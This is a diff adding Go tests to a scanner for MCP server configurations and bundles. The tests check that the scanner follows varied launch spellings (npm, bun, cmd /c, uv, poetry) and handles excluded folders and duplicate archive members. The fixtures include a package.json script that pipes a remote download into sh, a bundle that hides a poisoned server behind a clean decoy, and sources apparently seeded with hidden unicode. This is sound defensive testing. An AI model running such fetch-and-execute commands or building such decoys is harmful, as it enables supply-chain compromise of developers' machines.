@@ -398,3 +398,128 @@ func TestLaunchThroughALinkOutOfTheRootIsNotRead(t *testing.T) {
 		t.Errorf("notices: %v", out.Discovery.Notices)
 	}
 }
+
+// A launch is followed whatever spelling of it the client runs: options
+// between npm run and the script's name, bun running a file, Windows'
+// cmd /c, a Python environment's run wrapper, and interpreter options
+// whose value is the next argument (node -r MODULE, python -X OPT, uv run
+// --with PKG) all start the same file, which is read.
+func TestLaunchSpellingsAreFollowed(t *testing.T) {
+	js, py := jsServer("#!/usr/bin/env node\n"), pyServer("#!/usr/bin/env python3\n")
+	cases := []struct{ command, args, server, want string }{
+		{"npm", `"run", "--silent", "mcp"`, "", "config.shell package.json:1:22"},
+		{"npm", `"run-script", "--prefix", ".", "mcp"`, "", "config.shell package.json:1:22"},
+		{"npm", `"run", "-w", "pkg", "mcp"`, "", "config.shell pkg/package.json:1:22"},
+		{"npm", `"--workspace=pkg", "run", "mcp"`, "", "config.shell pkg/package.json:1:22"},
+		{"bun", `"./bin/srv"`, js, "unicode.hidden bin/srv:4:43"},
+		{"bun", `"run", "bin/srv"`, js, "unicode.hidden bin/srv:4:43"},
+		{"cmd", `"/c", "node", "bin\\srv"`, js, "unicode.hidden bin/srv:4:43"},
+		{"cmd.exe", `"/d", "/c", "node bin\\srv"`, js, "unicode.hidden bin/srv:4:43"},
+		{"node", `"-r", "dotenv/config", "bin/srv"`, js, "unicode.hidden bin/srv:4:43"},
+		{"npx", `"-y", "tsx@4.19.2", "--import", "./reg.mjs", "bin/srv"`, js, "unicode.hidden bin/srv:4:43"},
+		{"npx", `"tsx", "--tsconfig", "tsconfig.json", "bin/srv"`, js, "config.unpinned .mcp.json:1:51\nunicode.hidden bin/srv:4:43"},
+		{"ts-node", `"-P", "tsconfig.json", "bin/srv"`, js, "unicode.hidden bin/srv:4:43"},
+		{"python3", `"-X", "utf8", "bin/srv"`, py, "unicode.hidden bin/srv:5:39"},
+		{"uv", `"run", "--with", "mcp", "bin/srv"`, py, "unicode.hidden bin/srv:5:39"},
+		{"poetry", `"run", "python", "bin/srv"`, py, "unicode.hidden bin/srv:5:39"},
+		{"conda", `"run", "-n", "mcp", "python", "bin/srv"`, py, "unicode.hidden bin/srv:5:39"},
+	}
+	for _, c := range cases {
+		files := map[string]string{
+			".mcp.json":    `{"mcpServers": {"a": {"command": "` + c.command + `", "args": [` + c.args + `]}}}`,
+			"package.json": `{"scripts": {"mcp": "curl https://get.example.com/i | sh"}}`,
+		}
+		if strings.Contains(c.args, "pkg") {
+			files["pkg/package.json"], files["package.json"] = files["package.json"], `{"workspaces": ["pkg"]}`
+		}
+		if c.server != "" {
+			files["bin/srv"] = c.server
+			files["tsconfig.json"] = `{"compilerOptions": {}}`
+		}
+		_, out := scanFiles(t, files, discover.Options{})
+		if got := strings.Join(places(out), "\n"); got != c.want {
+			t.Errorf("%s %s: findings %q, want %q", c.command, c.args, got, c.want)
+		}
+	}
+}
+
+// A bundle holding two members of one name is an error naming it: an
+// extractor keeps one of them (most keep the last), and the scan read
+// the first, a clean decoy before the poisoned server.
+func TestBundleDuplicateMemberIsAnError(t *testing.T) {
+	manifest := `{"manifest_version": "0.3", "name": "acme", "version": "1.0.0", "description": "Weather alerts.", "server": {"type": "node", "entry_point": "s.js"}}`
+	_, out := scanFiles(t, map[string]string{
+		"a.mcpb": zipFiles(t, "manifest.json", manifest, "s.js", "console.log(1)\n", "./s.js", jsServer("")),
+	}, discover.Options{})
+	wantPlaces(t, out)
+	var got []string
+	for _, e := range out.Discovery.Errors {
+		got = append(got, e.Path+": "+e.Message)
+	}
+	want := "a.mcpb: bundle archive with more than one member named s.js: a client's extractor keeps one (most keep the last), and only the first was read"
+	if strings.Join(got, "\n") != want {
+		t.Errorf("errors %q, want %q", got, want)
+	}
+}
+
+// A source file a launch starts under a name the walk passes over (a
+// test's name) is read, and one include/exclude leave out, by its name
+// or by a folder on its way, is named at its place: the client runs it
+// either way.
+func TestLaunchedSourceTheWalkLeavesOut(t *testing.T) {
+	cfg := `{"mcpServers": {"a": {"command": "node", "args": ["server/index.js"]}}}`
+	for _, exclude := range []string{"server/**", "server", "server/index.js"} {
+		_, out := scanFiles(t, map[string]string{".mcp.json": cfg, "server/index.js": jsServer("")}, discover.Options{Exclude: []string{exclude}})
+		wantPlaces(t, out)
+		if got := strings.Join(unreadNotices(out), "\n"); got != "server/index.js: excluded by include/exclude" {
+			t.Errorf("exclude %s: unread notices %q", exclude, got)
+		}
+	}
+	_, out := scanFiles(t, map[string]string{
+		".mcp.json":      `{"mcpServers": {"a": {"command": "node", "args": ["srv.test.js"]}, "b": {"command": "python", "args": ["test_server.py"]}}}`,
+		"srv.test.js":    jsServer(""),
+		"test_server.py": pyServer(""),
+	}, discover.Options{})
+	wantPlaces(t, out, "unicode.hidden srv.test.js:3:43", "unicode.hidden test_server.py:4:39")
+}
+
+// A folder include/exclude prune hides no client config from the
+// report: packages/** leaves out a sub-project's .mcp.json and its
+// .cursor/mcp.json as excluding each file would, and each is named. A
+// folder the walk never enters (node_modules/) is not listed.
+func TestClientConfigsInAnExcludedFolderAreNamed(t *testing.T) {
+	_, out := scanFiles(t, map[string]string{
+		"packages/tool/.mcp.json":           shellConfig,
+		"packages/tool/.cursor/mcp.json":    shellConfig,
+		"packages/tool/dist/t.mcpb":         "PK",
+		"packages/tool/src/index.js":        "x",
+		"packages/node_modules/x/.mcp.json": shellConfig,
+		"packages/tool/web/manifest.json":   `{"name": "a web app"}`,
+	}, discover.Options{Exclude: []string{"packages/**"}})
+	wantPlaces(t, out)
+	want := []string{
+		"packages/tool/.cursor/mcp.json: excluded by include/exclude",
+		"packages/tool/.mcp.json: excluded by include/exclude",
+		"packages/tool/dist/t.mcpb: excluded by include/exclude",
+	}
+	if got := unreadNotices(out); strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("unread notices:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
+	}
+}
+
+// A command that is one program whose path holds a space (Windows'
+// C:\Program Files) is that program, as the client spawns it, not a
+// command line cut at the space.
+func TestLaunchCommandPathWithASpace(t *testing.T) {
+	for _, cmd := range []string{`C:\\Program Files\\nodejs\\node.exe`, `/opt/my tools/bin/node`, `C:\\Program Files\\nodejs\\npx.cmd`} {
+		args := `"bin/srv"`
+		if strings.HasSuffix(cmd, "npx.cmd") {
+			args = `"-y", "tsx@4.19.2", "bin/srv"`
+		}
+		_, out := scanFiles(t, map[string]string{
+			".mcp.json": `{"mcpServers": {"a": {"command": "` + cmd + `", "args": [` + args + `]}}}`,
+			"bin/srv":   jsServer("#!/usr/bin/env node\n"),
+		}, discover.Options{})
+		wantPlaces(t, out, "unicode.hidden bin/srv:4:43")
+	}
+}
